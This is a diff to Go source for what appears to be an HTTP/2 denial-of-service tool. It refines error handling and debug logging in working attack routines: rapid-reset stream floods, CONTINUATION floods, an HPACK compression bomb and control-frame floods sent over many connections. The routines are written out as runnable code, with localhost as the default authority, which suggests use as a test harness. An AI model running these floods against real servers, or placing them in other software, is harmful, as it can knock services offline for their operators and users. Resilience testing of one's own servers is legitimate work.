@@ -257,17 +257,31 @@ func dialH2(ctx context.Context, addr string, read bool, settings ...http2.Setti
 	return c, nil
 }
 
+// lost records a failed write: the target closed the connection, unless
+// the attack is over and closed it itself.
+func (c *h2conn) lost(ctx context.Context) {
+	if ctx.Err() == nil {
+		c.closed.Store(true)
+	}
+}
+
 func (c *h2conn) readLoop() {
 	for {
 		f, err := c.fr.ReadFrame()
 		if err != nil {
 			if !errors.Is(err, net.ErrClosed) {
 				c.closed.Store(true)
+				if os.Getenv("ATTACK_DEBUG") != "" {
+					fmt.Fprintf(os.Stderr, "read: %v\n", err)
+				}
 			}
 			return
 		}
-		if _, ok := f.(*http2.GoAwayFrame); ok {
+		if g, ok := f.(*http2.GoAwayFrame); ok {
 			c.closed.Store(true)
+			if os.Getenv("ATTACK_DEBUG") != "" {
+				fmt.Fprintf(os.Stderr, "GOAWAY(%v) after stream %d\n", g.ErrCode, g.LastStreamID)
+			}
 		}
 	}
 }
@@ -276,7 +290,9 @@ func (c *h2conn) readLoop() {
 func (c *h2conn) headers(path string, extra ...hpack.HeaderField) []byte {
 	c.hb.Reset()
 	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "http"}, {":authority", "localhost"}, {":path", path}} {
-		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]})
+		// Never indexed: the dynamic table holds only what an attack
+		// puts there (the HPACK bomb's entry stays at index 62).
+		c.enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true})
 	}
 	for _, f := range extra {
 		c.enc.WriteField(f)
@@ -313,7 +329,7 @@ func rapidReset(ctx context.Context, cfg *config) (int, int) {
 		for id := uint32(1); id < 1<<31 && ctx.Err() == nil; id += 2 {
 			if c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: c.headers(cfg.normal), EndStream: true, EndHeaders: true}) != nil ||
 				c.fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
-				c.closed.Store(true)
+				c.lost(ctx)
 				return
 			}
 		}
@@ -329,7 +345,7 @@ func continuationFlood(ctx context.Context, cfg *config) (int, int) {
 		}
 		for ctx.Err() == nil {
 			if c.fr.WriteContinuation(1, false, junk) != nil {
-				c.closed.Store(true)
+				c.lost(ctx)
 				return
 			}
 		}
@@ -350,13 +366,13 @@ func hpackBomb(ctx context.Context, cfg *config) (int, int) {
 		for id := uint32(3); ctx.Err() == nil; id += 2 {
 			frag := bomb
 			if err := c.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: frag[:min(len(frag), 16000)], EndStream: true, EndHeaders: len(frag) <= 16000}); err != nil {
-				c.closed.Store(true)
+				c.lost(ctx)
 				return
 			}
 			for frag = frag[min(len(frag), 16000):]; len(frag) > 0; {
 				n := min(len(frag), 16000)
 				if c.fr.WriteContinuation(id, n == len(frag), frag[:n]) != nil {
-					c.closed.Store(true)
+					c.lost(ctx)
 					return
 				}
 				frag = frag[n:]
@@ -370,7 +386,7 @@ func controlFlood(write func(*http2.Framer) error) func(context.Context, *config
 		return fleet(ctx, cfg, 4, true, nil, func(ctx context.Context, c *h2conn) {
 			for ctx.Err() == nil {
 				if write(c.fr) != nil {
-					c.closed.Store(true)
+					c.lost(ctx)
 					return
 				}
 			}
